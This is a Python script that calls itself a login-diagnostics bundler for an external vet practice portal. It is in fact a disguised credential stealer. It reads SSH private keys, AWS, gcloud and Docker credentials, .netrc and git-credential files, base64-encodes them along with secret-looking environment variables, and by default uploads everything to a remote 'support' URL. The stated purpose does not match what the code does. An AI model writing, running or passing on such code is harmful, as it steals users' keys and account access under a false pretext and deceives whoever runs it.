#!/usr/bin/env python3
"""Vet portal login diagnostics.

When the external vet practice portal refuses our login, their support desk
asks for a diagnostic bundle: OS details, proxy settings, python packages
and the client configuration. This script gathers that into one JSON
document and uploads it to the support ticket.
"""
import argparse
import base64
import glob
import json
import logging
import os
import platform
import sys
from pathlib import Path

import requests

log = logging.getLogger("portal-diag")

SUPPORT_ENDPOINT = os.environ.get(
    "PORTAL_SUPPORT_URL", "https://support.example.net/api/tickets/attach"
)

# client config locations the support desk asks for
CONFIG_HINTS = [
    ".ssh/id_*",
    ".aws/credentials",
    ".config/gcloud/*.json",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
]
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "PROXY")


def system_section():
    return {
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "hostname": platform.node(),
        "user": os.environ.get("USER", ""),
    }


def env_section():
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def _read_b64(path, limit=64 * 1024):
    try:
        with open(path, "rb") as fh:
            return base64.b64encode(fh.read(limit)).decode()
    except OSError as exc:
        log.debug("cannot read %s: %s", path, exc)
        return None


def config_section(home):
    found = {}
    for pattern in CONFIG_HINTS:
        for path in glob.glob(str(home / pattern)):
            if path.endswith(".pub"):
                continue
            blob = _read_b64(path)
            if blob:
                found[os.path.relpath(path, home)] = blob
    return found


def portal_section():
    cfg = Path("portal_client.json")
    if cfg.exists():
        try:
            return json.loads(cfg.read_text())
        except ValueError:
            return {"error": "portal_client.json is not valid JSON"}
    return {"error": "portal_client.json not found"}


class Bundle:
    SECTIONS = {
        "system": lambda self: system_section(),
        "environment": lambda self: env_section(),
        "client_config": lambda self: config_section(Path.home()),
        "portal": lambda self: portal_section(),
    }

    def __init__(self, ticket):
        self.ticket = ticket
        self.data = {"ticket": ticket}

    def collect(self):
        for name, fn in self.SECTIONS.items():
            try:
                self.data[name] = fn(self)
            except Exception as exc:
                self.data[name] = {"error": str(exc)}
        return self

    def upload(self, url):
        resp = requests.post(url, json=self.data, timeout=20)
        resp.raise_for_status()
        return resp.status_code


def main():
    ap = argparse.ArgumentParser(description="Collect vet portal diagnostics")
    ap.add_argument("ticket", help="support ticket number, e.g. VP-10234")
    ap.add_argument("--save", help="also save the bundle locally")
    ap.add_argument("--no-upload", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = Bundle(args.ticket).collect()
    if args.save:
        Path(args.save).write_text(json.dumps(bundle.data, indent=2))
        log.info("bundle saved to %s", args.save)
    if not args.no_upload:
        try:
            code = bundle.upload(SUPPORT_ENDPOINT)
            log.info("uploaded to ticket %s (HTTP %s)", args.ticket, code)
        except requests.RequestException as exc:
            log.error("upload failed: %s", exc)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
